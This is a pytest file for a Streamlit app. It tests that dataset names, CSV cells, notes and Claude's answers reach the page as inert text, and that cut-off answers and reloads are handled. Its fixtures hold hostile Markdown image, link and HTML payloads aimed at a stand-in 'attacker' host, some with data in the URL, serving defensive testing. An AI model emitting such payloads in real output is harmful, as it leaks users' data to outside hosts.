"""AppTest: names, cells and Claude's words reach the page as text only — no image, link or
HTML from them, on any page (issue 9, point 6); an answer cut short is marked and offered
again; a question survives a reload (point 13)."""

import re
from collections.abc import Iterator
from pathlib import Path

import pytest
from streamlit.testing.v1 import AppTest

from services import settings
from services.access.users import UserView
from services.claude import client as claude
from services.claude import conversations
from services.data import datasets
from tests.app.helpers import button, open_page, sign_in
from tests.factories import make_admin, make_user
from tests.fakes.claude_server import FakeClaude, point_claude_at
from tests.markdown_checks import live_markup, save_hostile_item, visible_text

HOSTILE = "![x](http://attacker/x)"
QUESTION = "Which continent has the biggest pop?"


def _rendered(at: AppTest) -> list[str]:
    """Every string the page hands to Streamlit's Markdown renderer."""
    texts: list[str] = []
    for kind in ("markdown", "title", "header", "subheader", "caption", "info", "warning",
                 "error", "success", "toast"):
        texts += [str(e.value) for e in at.get(kind)]
    texts += [str(e.proto.label) for e in at.get("page_link")]
    texts += [str(b.label) for b in at.button] + [str(t.label) for t in at.tabs]
    texts += [str(e.label) for e in at.expander] + [str(m.label) for m in at.metric]
    return texts


def _assert_inert(at: AppTest) -> None:
    """No image, link, HTML or autolinkable address in anything rendered as Markdown (an
    address may show, as code, which no renderer makes clickable: issue 18, point 3)."""
    assert not at.exception, at.exception
    for text in _rendered(at):
        assert live_markup(text) == [], text


@pytest.fixture
def fake(monkeypatch: pytest.MonkeyPatch) -> Iterator[FakeClaude]:
    with FakeClaude() as server:
        point_claude_at(server, monkeypatch, max_retries=1)
        yield server
    settings.reset_settings_cache()
    claude.reset_clients()


@pytest.fixture
def hostile_dataset(tmp_path: Path) -> tuple[UserView, int]:
    admin = make_admin()
    upload = tmp_path / "hostile.csv"
    upload.write_text(f'"{HOSTILE}",Region,Amount\n'
                      f'"{HOSTILE}",North,5\n"<img src=http://attacker/i>",South,\n'
                      f'"{HOSTILE}",North,7\n', encoding="utf-8")
    view, _ = datasets.create_from_upload(admin, upload, original_name=f"{HOSTILE}.csv",
                                          name=HOSTILE)
    datasets.set_shared(admin, view.id, True)
    make_user(admin, "bob")
    return admin, view.id


def test_hostile_names_and_cells_render_as_text_on_every_page(
        hostile_dataset: tuple[UserView, int], fake: FakeClaude) -> None:
    _, dataset_id = hostile_dataset
    at = sign_in("bob")
    _assert_inert(at)
    for page in ("pages/home.py", "pages/datasets.py", "pages/explore.py", "pages/ask.py"):
        open_page(at, page)
        _assert_inert(at)
    at.query_params["id"] = str(dataset_id)
    open_page(at, "pages/dataset.py")
    _assert_inert(at)
    assert any(HOSTILE in visible_text(t) for t in _rendered(at))  # still shown as typed


def test_claude_cannot_put_images_or_links_in_an_answer(fake: FakeClaude) -> None:
    admin = make_admin()
    datasets.create_from_sample(admin, "gapminder")
    fake.script([{"when_tools": False, "text": (
        "Asia leads. ![chart](http://attacker/?d=4000000000) See [this](http://attacker/l) "
        "<img src='http://attacker/i.png'> ![r][1]\n\n[1]: http://attacker/r"), "chunk_size": 9}])
    at = open_page(sign_in("ada"), "pages/ask.py")
    at.chat_input(key="ask_input").set_value(QUESTION).run()
    _assert_inert(at)
    assert any("Asia leads" in t for t in [m.value for m in at.get("markdown")])
    thread = conversations.list_conversations(admin)[0]
    button(at, thread.title).click().run()  # reopened from the store
    _assert_inert(at)
    assert any("Asia leads" in str(t) for t in [m.value for m in at.get("markdown")])


def test_an_answer_cut_short_is_marked_and_can_be_asked_again(fake: FakeClaude) -> None:
    admin = make_admin()
    datasets.create_from_sample(admin, "gapminder")
    fake.script([{"when_tools": False, "text": "Asia has the biggest population by far, " * 5,
                  "chunk_size": 8, "end_after_events": 6}])
    at = open_page(sign_in("ada"), "pages/ask.py")
    at.chat_input(key="ask_input").set_value(QUESTION).run()
    assert not at.exception
    assert any("incomplete" in w.value for w in at.warning)
    assert "Try again" in [b.label for b in at.button]
    stored = conversations.list_messages(admin, conversations.list_conversations(admin)[0].id)
    assert "incomplete" in (stored[1].details.error or "")
    fake.script([])  # Claude is fine again
    button(at, "Try again").click().run()
    assert not at.exception
    assert any("The result has 5 rows" in str(m) for m in [e.value for e in at.get("markdown")])


def test_a_question_being_answered_survives_a_reload(fake: FakeClaude) -> None:
    admin = make_admin()
    datasets.create_from_sample(admin, "gapminder")
    at = sign_in("ada")
    at.query_params["question"] = QUESTION  # what the address held while it was answering
    open_page(at, "pages/ask.py")
    assert not at.exception
    assert any(QUESTION in re.sub(r"\\(.)", r"\1", i.value) for i in at.info)
    button(at, "Try again").click().run()
    assert any("The result has 5 rows" in str(m) for m in [e.value for e in at.get("markdown")])


@pytest.fixture
def fresh_drawings() -> Iterator[None]:
    """The item page caches each insight's drawing by its id, and every test's store starts
    at id 1: this test's drawings must neither come from nor stay for another test."""
    import streamlit as st

    st.cache_resource.clear()
    yield
    st.cache_resource.clear()


def test_an_item_with_every_form_in_notes_answer_and_caption_is_inert(
        fresh_drawings: None) -> None:
    """Issue 18, point 3: notes, a saved Claude answer and a chart caption built from cells,
    each holding every form of image, link and address, reach the page as text."""
    admin = make_admin()
    item_id = save_hostile_item(admin, "http://attacker")
    at = sign_in("ada")
    at.query_params["id"] = str(item_id)
    open_page(at, "pages/research_item.py")
    _assert_inert(at)
    rendered = "\n".join(_rendered(at))
    assert "`http://attacker/b?d=SECRET42`" in rendered  # the address shows, as code
    assert "`http://attacker/cell?d=SECRET42`" in rendered  # in the chart's caption too
